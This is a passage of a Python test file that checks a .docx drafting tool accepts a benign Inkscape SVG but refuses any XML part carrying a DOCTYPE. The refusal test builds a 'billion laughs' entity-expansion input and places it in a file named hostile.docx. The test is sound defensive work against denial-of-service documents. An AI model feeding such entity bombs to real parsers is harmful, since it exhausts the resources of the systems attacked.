    """drafter never parses a media part, so an SVG exported by Inkscape (a DOCTYPE, no
    entities) in a letterhead is fine."""
    draft, data = built
    document = tmp_path / "document.docx"
    document.write_bytes(_with_part(data, name, INKSCAPE_SVG, content_type))
    if role == "returned":
        result = run_cli("review", "--library", lib.root, draft, document)
    else:
        out = tmp_path / "out.docx"
        result = run_cli("build", draft, "-o", out, "--reference-doc", document, "--library", lib.root)  # fmt: skip
        assert_relationships_resolve(out.read_bytes())
    assert result.code in (0, 1), result.err


@pytest.mark.parametrize(
    ("name", "content_type"),
    [
        ("customXml/item1.dat", "application/xml"),
        ("word/extra.bin", "application/vnd.openxmlformats-officedocument.custom+xml"),
        ("word/extra.xml", "application/octet-stream"),
    ],
)
def test_a_doctype_in_any_xml_part_is_still_refused(
    built, run_cli, lib, tmp_path: Path, name: str, content_type: str
) -> None:
    draft, data = built
    doctype = _laughs("x")
    hostile = tmp_path / "hostile.docx"
    hostile.write_bytes(_with_part(data, name, f"{doctype}<x>&lol9;</x>", content_type))
    refused(run_cli("review", "--library", lib.root, draft, hostile), hostile, "entities")
